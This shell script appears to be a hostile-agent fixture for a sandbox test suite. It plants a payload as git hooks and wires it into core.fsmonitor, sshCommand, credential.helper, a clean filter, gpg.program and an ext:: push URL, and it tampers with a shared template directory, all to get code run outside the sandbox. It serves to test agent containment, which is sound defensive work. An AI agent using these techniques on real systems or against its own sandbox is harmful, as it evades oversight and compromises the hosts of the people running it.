#!/bin/sh
# What an agent of attack_sandbox.t does; it is hostile, and runs in a sandbox
# alone.  Not in the test itself: a shell that reads a script while it is edited
# would run this text on the host.
[ "$(id -un)" = agent ] && [ -d /opt/coffer/agents ] || exit 99
exec 2>&1
X=/opt/coffer/agents/payload
cd /work/tree || exit 98
echo x >work
git add work && git commit -q -m 'Its own commit'
git init -q inner && echo x >inner/f
t=/work/template/current
(: >/work/template/planted; : >$t/planted; chmod 777 $t/git; mkdir -p $t/git/hooks; : >$t/git/hooks/x)
for r in . inner; do
	for h in pre-commit post-commit commit-msg prepare-commit-msg \
	    reference-transaction pre-push post-index-change; do
		cp $X $r/.git/hooks/$h
	done
	git -C $r config core.fsmonitor $X
	git -C $r config core.sshCommand $X
	git -C $r config credential.helper "!$X"
	git -C $r config filter.x.clean $X
	git -C $r config gpg.program $X
	git -C $r config commit.gpgSign true
	git -C $r config remote.origin.pushurl "ext::$X"
	git -C $r config protocol.ext.allow always
done
echo '* filter=x' >.gitattributes
git status; git push
ls RAN && rm -f RAN
: >.git/index.lock
echo left >left
echo 'done' >"$COFFER_OUT"
